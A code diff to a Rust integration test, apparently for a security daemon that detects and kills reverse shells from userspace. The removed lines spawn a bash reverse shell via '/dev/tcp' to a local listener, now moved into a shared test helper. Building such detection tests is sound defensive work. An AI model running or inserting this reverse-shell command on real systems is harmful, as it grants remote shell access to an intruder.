@@ -5,9 +5,8 @@
 use std::{
     ffi::CString,
     io::Write,
-    net::TcpListener,
     os::unix::process::ExitStatusExt,
-    process::{Child, Command, ExitStatus, Stdio},
+    process::{Child, Command, ExitStatus},
     time::{Duration, Instant},
 };
 
@@ -138,16 +137,7 @@ async fn reverse_shell_killed_from_userspace() {
     let _serial = SERIAL.lock().await;
     let d = blocking_daemon();
     let c = Collector::start(&d.socket, &["detection"]).await.unwrap();
-    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-    let port = listener.local_addr().unwrap().port();
-    let mut shell = Command::new("/bin/bash")
-        .args(["-c", &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1")])
-        .stdin(Stdio::null())
-        .stdout(Stdio::null())
-        .stderr(Stdio::null())
-        .spawn()
-        .unwrap();
-    let (mut conn, _) = listener.accept().unwrap();
+    let (mut shell, mut conn, _) = sensor_tests::dev_tcp_reverse_shell();
     let status = wait_exit(&mut shell);
     // The interactive shell is killed; bash -c reports that as 128 + SIGKILL.
     assert!(
